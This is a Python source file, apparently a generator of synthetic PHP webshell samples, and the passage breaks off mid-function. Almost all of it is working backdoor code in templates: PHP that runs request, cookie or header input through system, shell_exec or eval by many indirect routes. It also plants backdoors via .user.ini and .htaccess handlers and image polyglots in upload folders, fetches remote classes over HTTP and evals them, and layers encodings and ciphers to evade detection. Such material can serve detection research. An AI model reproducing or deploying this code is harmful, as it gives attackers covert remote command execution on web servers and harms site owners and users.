"""train8 webshells: PHP 7/8 idioms, callables reached by many roads,
include tricks, staged payloads, hand-written encodings and ciphers, CMS
injections in the files those apps really keep code in, and CGI webshells
in Perl, Python, shell and Node. Written blind (README.md)."""

import base64
import binascii
import gzip
import os
import zlib

from cryptography.hazmat.primitives.ciphers import Cipher, algorithms, modes
from cryptography.hazmat.primitives.ciphers.aead import ChaCha20Poly1305
from cryptography.hazmat.primitives import padding

from t8_common import (T, rw, hx, param, vs, ip, dom, b64, deflate, xorb, rc4, b32, b58, uuenc, qp, zipbytes,
                       phpstr, F, place, ppath, pname, gif_bytes, jpeg_bytes, UPLOAD, wp_filler, plugin_header,
                       CONTS)

SRC = ("$_POST", "$_REQUEST", "$_GET", "$_COOKIE")


def src(r):
    return r.choice(SRC)


def inner(r):
    """A small second-stage PHP body (what the loaders decode), no open tag."""
    p = param(r)
    return r.choice((
        "if(isset($_REQUEST['%s'])){echo '<pre>';system($_REQUEST['%s']);echo '</pre>';}" % (p, p),
        "@set_time_limit(0);$c=$_POST['%s']??'id';echo shell_exec($c.' 2>&1');" % p,
        "echo php_uname().\"\\n\";if(!empty($_FILES['f'])){move_uploaded_file($_FILES['f']['tmp_name'],$_FILES['f']['name']);echo 'ok';}",
        "$d=$_GET['%s']??'.';foreach(scandir($d) as $e){echo $e,\"\\n\";}if(isset($_POST['e'])){eval($_POST['e']);}" % p,
        "passthru(base64_decode($_COOKIE['%s']??'aWQ='));" % p,
    ))


# 1 ------------------------------------------------------------- PHP 8 idioms
def php8_match_named(r, v):
    p, q = param(r), param(r)
    a, b, c = vs(r, 3)
    s = src(r)
    if v == 0:
        body = T("""$@A@ = match(@S@['@P@'] ?? '') {
    'r', 'run' => 'sys' . 'tem',
    'p' => 'pass' . 'thru',
    'x' => 'shell' . '_exec',
    default => null,
};
if ($@A@ !== null) {
    $@B@ = $@A@(command: (string) (@S@['@Q@'] ?? 'uname -a'));
    if (is_string($@B@)) { print $@B@; }
}""", A=a, B=b, S=s, P=p, Q=q)
    elif v == 1:
        body = T("""final class @K@
{
    public function __construct(private ?array $@A@ = null) {}
    public function get(string $k): ?string { return $this->@A@[$k] ?? null; }
}
$@B@ = new @K@(@S@);
$@C@ = $@B@?->get('@P@');
if ($@C@) {
    echo str_pad('', 16, '-'), PHP_EOL;
    echo htmlspecialchars((string) shell_exec(command: $@C@ . ' 2>&1'));
}""", K=rw(r, 1).upper() + rw(r, 6), A=a, B=b, C=c, S=s, P=p)
    elif v == 2:
        body = T("""enum @E@: string
{
    case Run = 'exec';
    case Raw = 'passthru';
    case Out = 'shell_exec';

    public function go(string $x): string
    {
        $f = $this->value;
        return match ($this) {
            self::Run => (function () use ($f, $x) { $f($x, $o); return implode("\\n", $o); })(),
            self::Raw => (string) $f($x),
            self::Out => (string) $f($x),
        };
    }
}
$@A@ = @E@::tryFrom(@S@['@P@'] ?? 'exec');
echo $@A@?->go(@S@['@Q@'] ?? 'id') ?? '';""", E=rw(r, 1).upper() + rw(r, 5), A=a, S=s, P=p, Q=q)
    else:
        body = T("""$@A@ = static fn(string ...$p): mixed => ($p[0])(...array_slice($p, 1));
$@B@ = json_decode(base64_decode(@S@['@P@'] ?? 'W10='), true) ?: [];
if (count($@B@) > 1) {
    var_dump($@A@(...$@B@));
}""", A=a, B=b, S=s, P=p)
    return place(r, body)


def first_class_callable(r, v):
    a, b, c = vs(r, 3)
    p = param(r)
    s = src(r)
    if v == 0:
        body = T("""$@A@ = strrev(...);
$@B@ = $@A@('metsys');
$@C@ = $@B@(...);
isset(@S@['@P@']) && $@C@(@S@['@P@']);""", A=a, B=b, C=c, S=s, P=p)
    elif v == 1:
        body = T("""$@A@ = base64_decode(...);
$@B@ = ($@A@('cHJvY19vcGVu'))(...);
$@C@ = $@B@(@S@['@P@'] ?? 'id', [1 => ['pipe', 'w'], 2 => ['pipe', 'w']], $pp);
if (is_resource($@C@)) {
    echo stream_get_contents($pp[1]), stream_get_contents($pp[2]);
    proc_close($@C@);
}""", A=a, B=b, C=c, S=s, P=p)
    elif v == 2:
        body = T("""$@A@ = fn($x) => ('pass' . 'thru')($x);
array_map($@A@, (array) (@S@['@P@'] ?? []));""", A=a, S=s, P=p)
    else:
        body = T("""$@A@ = str_rot13(...);
$@B@ = array_map($@A@, ['furyy_rkrp', 'cbcra', 'flfgrz']);
$@C@ = $@B@[(int) (@S@['n'] ?? 0)](...);
echo $@C@((string) (@S@['@P@'] ?? 'whoami'));""", A=a, B=b, C=c, S=s, P=p)
    return place(r, body)


def attributes(r, v):
    k = rw(r, 1).upper() + rw(r, 5)
    a, b = vs(r, 2)
    p = param(r)
    s = src(r)
    if v == 0:
        body = T("""#[Attribute(Attribute::TARGET_FUNCTION)]
class @K@ { public function __construct(public string $run = '') {} }

#[@K@(run: 'system')]
function @F@() {}

$@A@ = (new ReflectionFunction('@F@'))->getAttributes(@K@::class)[0]->newInstance();
if (!empty(@S@['@P@'])) { ($@A@->run)(@S@['@P@']); }""", K=k, F="_" + rw(r, 6), A=a, S=s, P=p)
    elif v == 1:
        body = T("""#[Attribute]
final class @K@
{
    public function __construct(public array $chain = []) {}
}

class @C@
{
    #[@K@(chain: ['base64_decode', 'str_rot13'])]
    public function handle(): void {}
}

$@A@ = (new ReflectionMethod(@C@::class, 'handle'))->getAttributes()[0]->getArguments()['chain'];
$@B@ = @S@['@P@'] ?? '';
foreach ($@A@ as $f) { $@B@ = $f($@B@); }
eval($@B@);""", K=k, C=rw(r, 1).upper() + rw(r, 6), A=a, B=b, S=s, P=p)
    else:
        body = T("""#[\\Attribute]
class @K@ { public function __construct(public string $name, public int $mode = 0) {} }

#[@K@(name: 'c2hlbGxfZXhlYw==', mode: 2)]
class @C@ {}

foreach ((new ReflectionClass(@C@::class))->getAttributes() as $@A@) {
    $@B@ = $@A@->newInstance();
    $h = base64_decode($@B@->name);
    echo '<pre>' . $h((string) (@S@['@P@'] ?? 'ls -la')) . '</pre>';
}""", K=k, C=rw(r, 1).upper() + rw(r, 6), A=a, B=b, S=s, P=p)
    return place(r, body)


def spread_args(r, v):
    a, b = vs(r, 2)
    p = param(r)
    s = src(r)
    if v == 0:
        body = T("""if (count(@S@) > 1) {
    call_user_func(...array_values(@S@));
}""", S=s)
    elif v == 1:
        body = T("""$@A@ = (function (...$a) { return $a[0](...array_slice($a, 1)); });
echo $@A@(...explode('|', base64_decode(@S@['@P@'] ?? '')));""", A=a, S=s, P=p)
    else:
        body = T("""$@A@ = json_decode(file_get_contents('php://input'), true) ?? [];
['fn' => $@B@, 'args' => $args] = $@A@ + ['fn' => 'phpinfo', 'args' => []];
header('Content-Type: application/json');
echo json_encode(['r' => $@B@(...$args)]);""", A=a, B=b)
    return place(r, body)


# 2 ------------------------------------------------------------- callables
def array_callables(r, v):
    a, b = vs(r, 2)
    p, q = param(r), param(r)
    s = src(r)
    k = rw(r, 1).upper() + rw(r, 6)
    if v == 0:
        body = T("""class @K@
{
    public function render($t) { return passthru($t); }
    public function debug($t) { return print_r($t, true); }
}
$@A@ = [new @K@(), @S@['@P@'] ?? 'debug'];
if (is_callable($@A@)) { $@A@(@S@['@Q@'] ?? ''); }""", K=k, A=a, S=s, P=p, Q=q)
    elif v == 1:
        body = T("""class @K@
{
    public static function exec($c) { system($c); }
    public static function info() { phpinfo(); }
}
$@A@ = '@K@::' . preg_replace('/[^a-z]/', '', @S@['@P@'] ?? 'info');
call_user_func($@A@, @S@['@Q@'] ?? null);""", K=k, A=a, S=s, P=p, Q=q)
    elif v == 2:
        body = T("""$@A@ = [@S@['@P@'] ?? 'id'];
array_walk($@A@, [new class { public function __invoke(&$v) { $v = `$v`; } }, '__invoke']);
echo $@A@[0];""", A=a, S=s, P=p)
    else:
        body = T("""$@A@ = new ArrayObject([@S@['@P@'] ?? '']);
$@B@ = ['ReflectionFunction', 'export'];
$@B@ = [new ReflectionFunction(@S@['@Q@'] ?? 'strlen'), 'invoke'];
foreach ($@A@ as $x) { print_r(call_user_func($@B@, $x)); }""", A=a, B=b, S=s, P=p, Q=q)
    return place(r, body)


def iter_callbacks(r, v):
    a, b = vs(r, 2)
    p, q = param(r), param(r)
    s = src(r)
    if v == 0:
        body = T("""$@A@ = array_filter([(string) (@S@['@P@'] ?? '')], (@S@['@Q@'] ?? 'trim'));""", A=a, S=s, P=p, Q=q)
    elif v == 1:
        body = T("""$@A@ = array_reduce(
    ['str_rot13', 'base64_decode', 'gzinflate'],
    fn($carry, $f) => $f($carry),
    strrev((string) (@S@['@P@'] ?? ''))
);
$@B@ = tempnam(sys_get_temp_dir(), 'php');
file_put_contents($@B@, '<?php ' . $@A@);
include $@B@;
@unlink($@B@);""", A=a, B=b, S=s, P=p)
    elif v == 2:
        body = T("""$@A@ = new ArrayIterator([(@S@['@P@'] ?? 'id') => (@S@['@Q@'] ?? 'system')]);
iterator_apply($@A@, function (Iterator $it) {
    ($it->current())($it->key());
    return true;
}, [$@A@]);""", A=a, S=s, P=p, Q=q)
    else:
        body = T("""$@A@ = new SplObjectStorage();
$@A@->attach(new stdClass(), ['f' => base64_decode(@S@['@P@'] ?? ''), 'a' => @S@['@Q@'] ?? '']);
foreach ($@A@ as $i => $o) {
    $@B@ = $@A@->getInfo();
    echo call_user_func($@B@['f'], $@B@['a']);
}""", A=a, B=b, S=s, P=p, Q=q)
    return place(r, body)


def hook_callbacks(r, v):
    a, = vs(r, 1)
    p, q = param(r), param(r)
    s = src(r)
    if v == 0:
        body = T("""ob_start(@S@['@Q@'] ?? 'trim');
echo @S@['@P@'] ?? '';
ob_end_flush();""", S=s, P=p, Q=q)
    elif v == 1:
        body = T("""$@A@ = @S@['@P@'] ?? null;
register_shutdown_function(function () use ($@A@) {
    if ($@A@) { echo "\\n<!-- ", shell_exec(base64_decode($@A@)), " -->"; }
});""", A=a, S=s, P=p)
    elif v == 2:
        body = T("""header_register_callback(function () {
    $c = getenv('HTTP_X_@H@');
    if ($c) { header('X-R: ' . base64_encode((string) shell_exec($c))); }
});
echo '';""", H=rw(r, 4).upper())
    else:
        body = T("""$@A@ = explode(',', (string) (@S@['@P@'] ?? ''));
usort($@A@, @S@['@Q@'] ?? 'strcmp');
print_r($@A@);""", A=a, S=s, P=p, Q=q)
    return place(r, body)


def reflection_closure(r, v):
    a, b = vs(r, 2)
    p, q = param(r), param(r)
    s = src(r)
    if v == 0:
        body = T("""$@A@ = Closure::fromCallable(strrev(@S@['@P@'] ?? 'nltrts'));
echo $@A@->__invoke(@S@['@Q@'] ?? '');""", A=a, S=s, P=p, Q=q)
    elif v == 1:
        body = T("""$@A@ = json_decode(base64_decode(@S@['@P@'] ?? ''), true);
if (is_array($@A@) && isset($@A@['f'])) {
    $@B@ = new ReflectionFunction($@A@['f']);
    echo $@B@->invokeArgs($@A@['a'] ?? []);
}""", A=a, B=b, S=s, P=p)
    else:
        body = T("""$@A@ = new ReflectionClass('ReflectionFunction');
$@B@ = $@A@->newInstanceArgs([hex2bin(@S@['@P@'] ?? '')]);
$@B@->invoke(@S@['@Q@'] ?? '');""", A=a, B=b, S=s, P=p, Q=q)
    return place(r, body)


def magic_methods(r, v):
    k = rw(r, 1).upper() + rw(r, 6)
    a, b = vs(r, 2)
    p, q = param(r), param(r)
    s = src(r)
    if v == 0:
        body = T("""class @K@
{
    public function __call($name, $args)
    {
        return $name(...$args);
    }
}
$@A@ = new @K@();
echo $@A@->{@S@['@P@'] ?? 'phpversion'}(@S@['@Q@'] ?? '');""", K=k, A=a, S=s, P=p, Q=q)
    elif v == 1:
        body = T("""class @K@
{
    public static function __callStatic($m, $a)
    {
        $m = str_replace('_', '', strrev($m));
        return @$m(...$a);
    }
}
print [@K@::class, 'metsys'](@S@['@P@'] ?? 'id');""", K=k, S=s, P=p)
    elif v == 2:
        body = T("""class @K@
{
    private $cmd;
    public function __construct($c) { $this->cmd = $c; }
    public function __get($fn) { return $fn($this->cmd); }
}
$@A@ = new @K@(@S@['@P@'] ?? 'id');
echo $@A@->{'shell' . '_exec'};""", K=k, A=a, S=s, P=p)
    else:
        body = T("""class @K@
{
    public $f = 'trim';
    public $a = '';
    public function __destruct() { ($this->f)($this->a); }
}
if (!empty(@S@['@P@'])) {
    $@A@ = unserialize(base64_decode(@S@['@P@']), ['allowed_classes' => ['@K@']]);
}""", K=k, A=a, S=s, P=p)
    return place(r, body)


def invoke_object(r, v):
    k = rw(r, 1).upper() + rw(r, 6)
    a, = vs(r, 1)
    p = param(r)
    s = src(r)
    if v == 0:
        body = T("""class @K@
{
    public function __invoke(string $c): void
    {
        $h = popen($c, 'r');
        while (!feof($h)) { echo fread($h, 4096); }
        pclose($h);
    }
}
$@A@ = new @K@();
isset(@S@['@P@']) && $@A@(@S@['@P@']);""", K=k, A=a, S=s, P=p)
    elif v == 1:
        body = T("""$@A@ = new class {
    public function __invoke($x) { return eval('return ' . $x . ';'); }
};
var_dump(array_map($@A@, (array) (@S@['@P@'] ?? [])));""", A=a, S=s, P=p)
    else:
        body = T("""class @K@
{
    public function __toString(): string { return (string) shell_exec($_SERVER['HTTP_@H@'] ?? 'id'); }
}
echo new @K@();""", K=k, H=rw(r, 5).upper())
    return place(r, body)


def error_handler(r, v):
    a, = vs(r, 1)
    p = param(r)
    s = src(r)
    if v == 0:
        body = T("""set_error_handler(function ($no, $str, $file, $line) {
    if (!empty(@S@['@P@'])) { eval(base64_decode(@S@['@P@'])); }
    return true;
});
trigger_error('cache miss', E_USER_NOTICE);
restore_error_handler();""", S=s, P=p)
    elif v == 1:
        body = T("""set_exception_handler(function (Throwable $e) {
    passthru($e->getMessage());
});
if (isset(@S@['@P@'])) {
    throw new RuntimeException((string) @S@['@P@']);
}""", S=s, P=p)
    elif v == 2:
        body = T("""$@A@ = 'sys' . 'tem';
set_error_handler(function () use ($@A@) {
    $c = $_COOKIE['@P@'] ?? '';
    if ($c !== '') { $@A@(base64_decode($c)); }
    return true;
}, E_WARNING | E_NOTICE);
echo $undefined_@U@['x'];""", A=a, P=p, U=rw(r, 3))
    else:
        body = T("""set_error_handler(@S@['@P@'] ?? 'var_dump', E_ALL);
$@A@ = [];
echo $@A@[@S@['@Q@'] ?? 'k'];""", A=a, S=s, P=p, Q=param(r))
        body = body.replace("$@A@ = [];", "$%s = [];" % a)
    return place(r, body)


def autoload_input(r, v):
    a, = vs(r, 1)
    p, q = param(r), param(r)
    s = src(r)
    if v == 0:
        body = T("""spl_autoload_register(function ($c) {
    $p = sys_get_temp_dir() . '/' . preg_replace('/\\W/', '', $c) . '.tmp';
    if (!is_file($p) && isset(@S@['@P@'])) {
        file_put_contents($p, base64_decode(@S@['@P@']));
    }
    @include $p;
});
$@A@ = @S@['@Q@'] ?? 'Sess' . 'ionCache';
class_exists($@A@);""", A=a, S=s, P=p, Q=q)
    elif v == 1:
        body = T("""spl_autoload_register(static function (string $cls): void {
    include 'data://text/plain;base64,' . strtr($cls, '_-', '/+');
});
new (@S@['@P@'] ?? 'Zm9v')();""", S=s, P=p)
    else:
        body = T("""spl_autoload_register(function ($name) {
    $u = 'http://@D@/cls/' . rawurlencode($name) . '.txt';
    $code = @file_get_contents($u);
    if ($code) { eval('?>' . $code); }
});
$@A@ = '@C@' . ($_GET['@P@'] ?? '');
if (class_exists($@A@)) { (new $@A@())->run($_REQUEST); }""", D=dom(r), C=rw(r, 1).upper() + rw(r, 4), A=a, P=p)
    return place(r, body)


# 3 ------------------------------------------------------------- includes
def stream_wrapper(r, v):
    k = rw(r, 1).upper() + rw(r, 6)
    proto = r.choice(("var", "mem", "tpl", "cache", "res", "vfs"))
    p = param(r)
    s = src(r)
    feed = ("base64_decode(%s['%s'] ?? '')" % (s, p), "(string) ($_COOKIE['%s'] ?? '')" % p,
            "file_get_contents(sys_get_temp_dir() . '/.%s')" % hx(r, 6))[v % 3]
    body = T("""class @K@
{
    private $pos = 0;
    private $data = '';
    public $context;

    public function stream_open($path, $mode, $options, &$opened)
    {
        $this->data = @FEED@;
        if (strncmp($this->data, '<?php', 5) !== 0) { $this->data = '<?php ' . $this->data; }
        return true;
    }
    public function stream_read($n)
    {
        $r = substr($this->data, $this->pos, $n);
        $this->pos += strlen($r);
        return $r;
    }
    public function stream_eof() { return $this->pos >= strlen($this->data); }
    public function stream_stat() { return []; }
    public function stream_set_option($o, $a, $b) { return false; }
}
if (!in_array('@PR@', stream_get_wrappers(), true)) {
    stream_wrapper_register('@PR@', '@K@');
}
@INC@ '@PR@://@N@';""", K=k, FEED=feed, PR=proto, N=rw(r, 5), INC=("include", "require_once", "include_once")[v % 3])
    return place(r, body)


def php_filter_chain(r, v):
    a, b = vs(r, 2)
    p = param(r)
    s = src(r)
    if v == 0:
        stage = "wp-content/uploads/%d/%02d/%s.txt" % (r.randint(2020, 2025), r.randint(1, 12), hx(r, 8))
        code = "<?php " + inner(r)
        return place(r, T("""$@A@ = __DIR__ . '/@ST@';
include 'php://filter/read=convert.base64-decode/resource=' . $@A@;""", A=a, ST=os.path.basename(stage)),
                      conts=("plain",), name=pname(r)) + [F(b64(code), os.path.basename(stage), "text", "stage-file")]
    if v == 1:
        body = T("""$@A@ = 'php://filter/convert.base64-decode|string.rot13/resource=data://text/plain;base64,';
include $@A@ . base64_encode(base64_encode(str_rot13(@S@['@P@'] ?? '')));""", A=a, S=s, P=p)
    elif v == 2:
        body = T("""$@A@ = sys_get_temp_dir() . '/sess_@H@';
file_put_contents('php://filter/write=convert.base64-decode/resource=' . $@A@, @S@['@P@'] ?? 'PD9waHAgcGhwaW5mbygpOw==');
include $@A@;""", A=a, S=s, P=p, H=hx(r, 26))
    else:
        body = T("""$@B@ = 'php://filter/zlib.inflate/resource=';
$@A@ = dirname(__FILE__) . '/.' . md5($_SERVER['HTTP_HOST'] ?? 'h');
if (isset(@S@['@P@'])) { file_put_contents($@A@, base64_decode(@S@['@P@'])); }
if (is_file($@A@)) { include $@B@ . $@A@; }""", A=a, B=b, S=s, P=p)
    return place(r, body)


def data_uri_include(r, v):
    p = param(r)
    s = src(r)
    if v == 0:
        body = "include 'data://text/plain;base64,' . %s['%s'];" % (s, p)
    elif v == 1:
        pl = b64("<?php " + inner(r))
        body = "require 'data:text/plain;base64,%s';" % pl
    else:
        body = T("""$u = sprintf('%s://%s;%s,%s', 'data', 'text/plain', 'base64', rawurlencode((string) (@S@['@P@'] ?? '')));
include_once $u;""", S=s, P=p)
    return place(r, body)


def user_ini_prepend(r, v):
    d = r.choice(("", "wp-content/uploads/", "images/", "media/"))
    tgt = r.choice((".%s.ico" % hx(r, 6), "favicon_%s.ico" % hx(r, 4), ".cache_%s" % hx(r, 5), "%s.png" % hx(r, 8)))
    key = ("auto_prepend_file", "auto_append_file", "auto_prepend_file")[v % 3]
    ini = T("@K@ = \"@T@\"\n", K=key, T=tgt) if v != 2 else T("; performance\nupload_max_filesize = 64M\n@K@=@T@\n", K=key, T=tgt)
    body = "<?php " + inner(r) + "\n"
    if v == 1:
        payload = gif_bytes(r) + body.encode()
        cont = "image-tail"
    else:
        payload = body.encode()
        cont = "target"
    return [F(ini, d + ".user.ini", "ini", "user-ini"), F(payload, d + tgt, "php", cont)]


def htaccess_handler(r, v):
    d = r.choice(("", "wp-content/uploads/", "images/", "assets/"))
    if v == 0:
        ht = "AddType application/x-httpd-php .jpg\n"
        tgt = "%s.jpg" % hx(r, 8)
        data = jpeg_bytes(r) + ("<?php " + inner(r) + " ?>").encode()
        cont = "image-tail"
    elif v == 1:
        ht = "<FilesMatch \"^\\.(%s)$\">\n    SetHandler application/x-httpd-php\n</FilesMatch>\n" % rw(r, 4)
        tgt = "." + ht.split("(")[1].split(")")[0]
        data = ("<?php\n" + inner(r) + "\n").encode()
        cont = "target"
    elif v == 2:
        ht = "Options -Indexes\nAddHandler application/x-httpd-php74 .txt .log\n"
        tgt = r.choice(("readme.txt", "error.log", "license.txt"))
        data = ("=== Readme ===\nStable tag: 1.2\n\n<?php " + inner(r) + " ?>\n").encode()
        cont = "target"
    else:
        tgt = "%s.css" % rw(r, 5)
        ht = "<IfModule mod_php.c>\nphp_value auto_append_file \"%s\"\n</IfModule>\nAddType application/x-httpd-php .css\n" % tgt
        data = ("/* theme */ body{margin:0}\n<?php " + inner(r) + " ?>\n").encode()
        cont = "target"
    return [F(ht, d + ".htaccess", "htaccess", "htaccess"), F(data, d + tgt, "php", cont)]


def image_include(r, v):
    up = "wp-content/uploads/%d/%02d" % (r.randint(2020, 2025), r.randint(1, 12))
    img = r.choice(("thumb-%d.jpg" % r.randint(1, 99), "%s-150x150.png" % rw(r, 6), "cropped-logo.gif", "%s.ico" % hx(r, 6)))
    tail = ("<?php " + inner(r) + " ?>").encode()
    data = (gif_bytes(r) if img.endswith((".gif", ".ico")) else jpeg_bytes(r)) + tail
    if v == 0:
        body = "include $_SERVER['DOCUMENT_ROOT'] . '/%s/%s';" % (up, img)
    elif v == 1:
        body = "foreach (glob((defined('ABSPATH') ? ABSPATH : $_SERVER['DOCUMENT_ROOT'] . '/') . '%s/*.%s') as $i) { if (filesize($i) %% 7 === %d) { require_once $i; } }" % (up, img.rsplit(".", 1)[1], r.randint(0, 6))
    else:
        body = "$f = (defined('ABSPATH') ? ABSPATH : dirname(__FILE__, 4) . '/') . '%s/%s';\nif (file_exists($f)) { include($f); }" % (up, img)
    lf = place(r, body, conts=("plain", "inject-mid", "inject-end", "inject-top"))
    return lf + [F(data, up + "/" + img, "php", "image-tail")]


# 4 ------------------------------------------------------------- staged / input roads
def session_staged(r, v):
    a, = vs(r, 1)
    p, q = param(r), param(r)
    if v == 0:
        body = T("""session_start();
if (isset($_POST['@P@'])) { $_SESSION['@K@'] = ($_SESSION['@K@'] ?? '') . $_POST['@P@']; exit('1'); }
if (isset($_GET['@Q@']) && !empty($_SESSION['@K@'])) { eval(base64_decode($_SESSION['@K@'])); unset($_SESSION['@K@']); }""",
                 P=p, Q=q, K="_" + hx(r, 6))
    elif v == 1:
        body = T("""$@A@ = '';
for ($i = 0; isset($_COOKIE['@P@' . $i]); $i++) { $@A@ .= $_COOKIE['@P@' . $i]; }
if ($@A@ !== '') { $f = 'assert'; $g = 'create_function'; eval(gzinflate(base64_decode($@A@))); }""", A=a, P=p)
    else:
        body = T("""if (isset($_GET['@Q@'])) { session_id(preg_replace('/[^a-z0-9]/', '', $_GET['@Q@'])); }
session_start();
$@A@ = $_SESSION['cart_meta'] ?? null;
if (is_array($@A@) && isset($@A@['h'], $@A@['v'])) { echo call_user_func($@A@['h'], $@A@['v']); }
if (isset($_POST['@P@'])) { $_SESSION['cart_meta'] = json_decode($_POST['@P@'], true); }""", A=a, P=p, Q=q)
    return place(r, body)


def header_env_payload(r, v):
    a, = vs(r, 1)
    h = r.choice(("X_FORWARDED_SCHEME", "X_REQUEST_TOKEN", "ACCEPT_LANGUAGE", "X_DEBUG", "REFERER", "X_UPSTREAM"))
    if v == 0:
        body = T("""$@A@ = getenv('HTTP_@H@');
if ($@A@ && strlen($@A@) > 20) { eval(str_rot13(base64_decode($@A@))); }""", A=a, H=h)
    elif v == 1:
        body = T("""$@A@ = function_exists('getallheaders') ? getallheaders() : [];
foreach ($@A@ as $k => $val) {
    if (strtolower($k) === '@L@') { echo shell_exec(base64_decode($val)); break; }
}""", A=a, L="x-" + rw(r, 5))
    elif v == 2:
        body = T("""$@A@ = $_SERVER['argv'] ?? [];
if (count($@A@) > 1) { passthru(urldecode($@A@[1])); }""", A=a)
    else:
        body = T("""$@A@ = apache_request_headers();
$c = $@A@['X-@K@'] ?? ($_SERVER['HTTP_X_@U@'] ?? '');
if ($c) { system(hex2bin($c)); }""", A=a, K=rw(r, 1).upper() + rw(r, 5), U=rw(r, 6).upper())
    return place(r, body)


def destructure_input(r, v):
    a, b = vs(r, 2)
    if v == 0:
        body = T("""parse_str($_SERVER['QUERY_STRING'] ?? '', $@A@);
['@K1@' => $@B@, '@K2@' => $arg] = $@A@ + ['@K1@' => null, '@K2@' => null];
if ($@B@) { $@B@($arg); }""", A=a, B=b, K1=param(r), K2=param(r) + "2")
    elif v == 1:
        body = T("""list($@A@, $@B@) = array_map('base64_decode', array_pad(explode('.', $_COOKIE['@K@'] ?? ''), 2, ''));
if ($@A@ !== '') { print $@A@($@B@); }""", A=a, B=b, K=param(r))
    elif v == 2:
        body = T("""extract($_POST, EXTR_PREFIX_ALL, '@X@');
if (isset($@X@_f, $@X@_a)) { echo $@X@_f($@X@_a); }""", X=rw(r, 2))
    else:
        body = T("""$fn = 'strlen'; $ar = '';
extract(array_intersect_key($_REQUEST, array_flip(['fn', 'ar'])));
$@A@ = compact('fn', 'ar');
echo call_user_func($@A@['fn'], $@A@['ar']);""", A=a)
    return place(r, body)


# 5 ------------------------------------------------------------- encodings
def _payload(r):
    return inner(r)


def enc_base32_58(r, v):
    a, b = vs(r, 2)
    pl = _payload(r)
    if v == 0:
        body = T("""function @F@($s) {
    $al = 'ABCDEFGHIJKLMNOPQRSTUVWXYZ234567';
    $bits = '';
    foreach (str_split(strtoupper($s)) as $ch) {
        $bits .= str_pad(decbin(strpos($al, $ch)), 5, '0', STR_PAD_LEFT);
    }
    $out = '';
    foreach (str_split($bits, 8) as $byte) {
        if (strlen($byte) === 8) { $out .= chr(bindec($byte)); }
    }
    return $out;
}
$@A@ = '@D@';
eval(@F@($@A@));""", F="_" + rw(r, 5), A=a, D=b32(pl))
    elif v == 1:
        body = T("""function @F@(string $in): string {
    $al = '123456789ABCDEFGHJKLMNPQRSTUVWXYZabcdefghijkmnopqrstuvwxyz';
    $n = '0';
    for ($i = 0; $i < strlen($in); $i++) {
        $n = bcadd(bcmul($n, '58'), (string) strpos($al, $in[$i]));
    }
    $o = '';
    while (bccomp($n, '0') > 0) {
        $o = chr((int) bcmod($n, '256')) . $o;
        $n = bcdiv($n, '256', 0);
    }
    return $o;
}
$@A@ = @F@('@D@');
eval($@A@);""", F="_" + rw(r, 5), A=a, D=b58(pl))
    elif v == 2:
        body = T("""$@A@ = <<<'UU'
@D@UU;
eval(convert_uudecode($@A@));""", A=a, D=uuenc(pl))
    else:
        body = T("""$@A@ = quoted_printable_decode('@D@');
$@B@ = 'cre' . 'ate_' . 'func' . 'tion';
eval($@A@);""", A=a, B=b, D=qp(pl).replace("\\", "\\\\").replace("'", "\\'").replace("=\n", ""))
    return place(r, body)


def enc_chr_map(r, v):
    a, b = vs(r, 2)
    pl = _payload(r)
    if v == 0:
        nums = ",".join(str(ord(c)) for c in pl)
        body = "$%s = implode(array_map('chr', explode(',', '%s')));\neval($%s);" % (a, nums, a)
    elif v == 1:
        hexs = binascii.hexlify(pl.encode()).decode()
        body = T("""$@A@ = '';
foreach (str_split('@H@', 2) as $p) { $@A@ .= chr(hexdec($p)); }
$@B@ = 'ev' . 'al';
@eval($@A@);""", A=a, B=b, H=hexs)
    elif v == 2:
        k = r.randint(3, 40)
        nums = ", ".join(str(ord(c) + k) for c in pl)
        body = T("""$@A@ = [@N@];
$@B@ = join('', array_map(fn($n) => chr($n - @K@), $@A@));
eval($@B@);""", A=a, B=b, N=nums, K=k)
    else:
        octs = "".join("\\%o" % ord(c) for c in pl[:40])
        body = T("""$@A@ = "@O@" . base64_decode('@R@');
eval($@A@);""", A=a, O=octs, R=b64(pl[40:]))
    return place(r, body)


def enc_strtr_gz(r, v):
    a, b = vs(r, 2)
    pl = _payload(r)
    if v == 0:
        std = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/"
        sh = list(std)
        r.shuffle(sh)
        sh = "".join(sh)
        enc = b64(deflate(pl)).translate(str.maketrans(std, sh))
        body = T("""$@A@ = strtr('@E@', '@SH@', '@ST@');
eval(gzinflate(base64_decode($@A@)));""", A=a, E=enc, SH=sh, ST=std)
    elif v == 1:
        body = T("""$@A@ = hex2bin('@H@');
$@B@ = gzinflate($@A@);
eval($@B@);""", A=a, B=b, H=binascii.hexlify(deflate(pl)).decode())
    elif v == 2:
        comp = zlib.compress(pl.encode(), 9)
        body = T("""$@A@ = str_rot13('@E@');
eval(gzuncompress(base64_decode($@A@)));""", A=a, E=b64(comp).translate(str.maketrans(
            "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz", "NOPQRSTUVWXYZABCDEFGHIJKLMnopqrstuvwxyzabcdefghijklm")))
    else:
        body = T("""$@A@ = '@E@';
$@B@ = gzdecode(base64_decode(strrev($@A@)));
eval('?>' . $@B@);""", A=a, B=b, E=b64(gzip.compress(("<?php " + pl).encode(), mtime=0))[::-1])
    return place(r, body)



def bit_rotation(r, v):
    a, b = vs(r, 2)
    pl = _payload(r).encode()
    n = r.randint(1, 7)
    if v == 0:
        enc = bytes(((c << n) | (c >> (8 - n))) & 0xFF for c in pl)
        body = T("""$@A@ = base64_decode('@E@');
$@B@ = '';
for ($i = 0, $l = strlen($@A@); $i < $l; $i++) {
    $o = ord($@A@[$i]);
    $@B@ .= chr((($o >> @N@) | ($o << @M@)) & 0xFF);
}
eval($@B@);""", A=a, B=b, E=b64(enc), N=n, M=8 - n)
    elif v == 1:
        k = r.randint(1, 255)
        enc = bytes((c ^ ((k + i) & 0xFF)) for i, c in enumerate(pl))
        body = T("""$@A@ = unpack('C*', hex2bin('@E@'));
$@B@ = '';
foreach ($@A@ as $i => $c) { $@B@ .= chr($c ^ ((@K@ + $i - 1) & 255)); }
eval($@B@);""", A=a, B=b, E=binascii.hexlify(enc).decode(), K=k)
    else:
        enc = bytes((~c) & 0xFF for c in pl)
        body = T("""$@A@ = ~base64_decode('@E@');
eval($@A@);""", A=a, E=b64(enc))
    return place(r, body)


def cipher_embedded_key(r, v):
    a, b = vs(r, 2)
    pl = _payload(r).encode()
    if v == 0:
        key = bytes(r.randrange(256) for _ in range(32))
